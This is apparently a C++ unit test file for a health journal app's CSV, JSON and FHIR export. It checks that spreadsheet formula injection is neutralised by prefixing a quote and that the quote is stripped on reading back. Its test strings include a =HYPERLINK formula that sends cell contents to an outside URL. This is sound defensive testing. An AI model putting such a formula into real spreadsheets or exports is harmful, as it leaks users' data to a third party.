// CSV formula injection (OWASP "CSV Injection"): text a spreadsheet would run as a formula is
// written with one leading ', read back without it, and kept as typed in JSON and FHIR.
#include "IoTestSupport.h"
#include "quietlegs/io/CsvExport.h"
#include "quietlegs/io/CsvTable.h"
#include "quietlegs/io/CsvWriter.h"
#include "quietlegs/io/FhirExport.h"
#include "quietlegs/io/GenericCsvImport.h"
#include "quietlegs/io/InterchangeJson.h"

#include <cstdlib>

namespace QUIETLEGS_TEST_FILE {

using namespace quietlegs;
using namespace quietlegs::test;

namespace {

/// Notes and labels people could type that a spreadsheet would run, or that look like the
/// guard itself, and ordinary text that must stay as it is.
const std::vector<std::string> kTexts = {
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"click\")",
    "@SUM(A1)",
    "'quoted",
    "-5 mg",
    "+1 extra dose",
    "=1+2",
    "\tindented",
    "\rcarriage return first",
    "'",
    "''",
    "'tis the night",
    "plain note",
    "5",
};

Date november(int d)
{
    return Date{std::chrono::year{2026} / 11 / d};
}

JournalRecords recordsWithTexts()
{
    JournalRecords records;
    for (std::size_t i = 0; i < kTexts.size(); ++i) {
        NightEntry night;
        night.date = november(int(i) + 1);
        night.severity = 3;
        night.notes = kTexts[i];
        records.nights.push_back(valueOf(Night::create(night)));
        records.intakes.push_back(valueOf(Intake::create(
            {atTime(november(int(i) + 1), std::chrono::minutes{21 * 60}), Nutrient::Magnesium,
             "glycinate", Route::Oral, std::nullopt, 100, kTexts[i]})));
    }
    return records;
}

bool isNumber(const std::string& cell)
{
    char* end = nullptr;
    std::strtod(cell.c_str(), &end);
    return !cell.empty() && end == cell.c_str() + cell.size();
}

} // namespace

TEST_CASE("text cells that start with = + - @ tab CR or ' get one leading '; numbers never")
{
    for (const char* text :
         {"=HYPERLINK(\"x\")", "@SUM(A1)", "'quoted", "-5 mg", "+1", "\tx", "\rx"}) {
        INFO(text);
        CHECK(needsCsvFormulaGuard(text));
        CHECK(guardCsvFormula(text) == "'" + std::string(text));
    }
    for (const char* text : {"plain", "", "5", " =not first", "\nline"})
        CHECK(guardCsvFormula(text) == text);

    CsvWriter csv;
    csv.text("=HYPERLINK(\"x\")").text("@SUM(A1)").text("'quoted").text("-5 mg");
    csv.number(-5.0).number(std::optional<double>(-0.5)).text("plain").endRow();
    // The ' goes inside the quotes, where a spreadsheet sees it as the cell's first character.
    CHECK(csv.str() ==
          "\"'=HYPERLINK(\"\"x\"\")\",\"'@SUM(A1)\",\"''quoted\",\"'-5 mg\",-5,-0.5,\"plain\"\r\n");
}

TEST_CASE("reading back drops exactly the one ' the guard added")
{
    for (const std::string& text : kTexts) {
        INFO(text);
        CHECK(withoutCsvFormulaGuard(guardCsvFormula(text)) == text);
    }
    // Someone else's sheet: a ' that no guard put there stays.
    CHECK(withoutCsvFormulaGuard("'tis") == "'tis");
    CHECK(withoutCsvFormulaGuard("'") == "'");
    CHECK(withoutCsvFormulaGuard("''x") == "'x");
    CHECK(withoutCsvFormulaGuard("=1+2") == "=1+2");
}

TEST_CASE("no exported CSV cell starts a formula: notes and labels are neutralised")
{
    const JournalRecords records = recordsWithTexts();
    for (const std::string& text :
         {nightsCsv(records), intakesCsv(records), dailyCsv(records), labsCsv(records)}) {
        const CsvTable table = valueOf(readCsvTable(text));
        for (const CsvRow& row : table.rows)
            for (const std::string& cell : row.cells) {
                INFO("line " << row.line << ": " << cell);
                if (!cell.empty() &&
                    std::string_view("=+-@\t\r").find(cell.front()) != std::string_view::npos)
                    CHECK(isNumber(cell)); // a negative number is a number, not a formula
            }
    }
    const CsvTable nights = valueOf(readCsvTable(nightsCsv(records)));
    const std::size_t notes = *nights.column("notes");
    CHECK(nights.rows[0].cells[notes] == "'" + kTexts[0]);
    CHECK(nights.rows[1].cells[notes] == "'@SUM(A1)");
    CHECK(nights.rows[2].cells[notes] == "''quoted");
    CHECK(nights.rows[3].cells[notes] == "'-5 mg");
    CHECK(nights.rows[11].cells[notes] == "plain note");
    const CsvTable intakes = valueOf(readCsvTable(intakesCsv(records)));
    const std::size_t label = *intakes.column("label");
    CHECK(intakes.rows[1].cells[label] == "'@SUM(A1)");
    CHECK(intakes.rows[12].cells[label] == "5");
}

TEST_CASE("notes keep their exact text through nights.csv and the spreadsheet import")
{
    const JournalRecords records = recordsWithTexts();
    const std::string text = nightsCsv(records);
    const CsvTable preview = valueOf(previewCsv(text));
    const ImportBatch batch = valueOf(importGenericCsv(
        text,
        valueOf(parseColumnMapping("date=date,notes=notes,severity=severity", preview.header))));
    REQUIRE(batch.nightPatches.size() == kTexts.size());
    for (std::size_t i = 0; i < kTexts.size(); ++i) {
        INFO(kTexts[i]);
        CHECK(batch.nightPatches[i].notes == kTexts[i]);
    }
}

TEST_CASE("JSON and FHIR keep notes and labels exactly as typed, with no ' added")
{
    const JournalRecords records = recordsWithTexts();
    const std::string json = interchangeJson(records, std::chrono::sys_seconds{});
    const JournalRecords back = valueOf(readInterchangeJson(json));
    REQUIRE(back.nights.size() == kTexts.size());
    for (std::size_t i = 0; i < kTexts.size(); ++i) {
        INFO(kTexts[i]);
        CHECK(back.nights[i].notes() == kTexts[i]);
        CHECK(back.intakes[i].label() == kTexts[i]);
    }
    CHECK(json.find("'@SUM") == std::string::npos);

    const nlohmann::ordered_json bundle = fhirBundle(records, {std::chrono::sys_seconds{}, ""});
    std::vector<std::string> noteTexts;
    for (const auto& entry : bundle["entry"])
        if (entry["resource"].contains("note"))
            for (const auto& note : entry["resource"]["note"])
                noteTexts.push_back(note["text"].get<std::string>());
    for (const std::string& text : kTexts) {
        INFO(text);
        CHECK(std::count(noteTexts.begin(), noteTexts.end(), text) >= 1);
    }
}

} // namespace QUIETLEGS_TEST_FILE
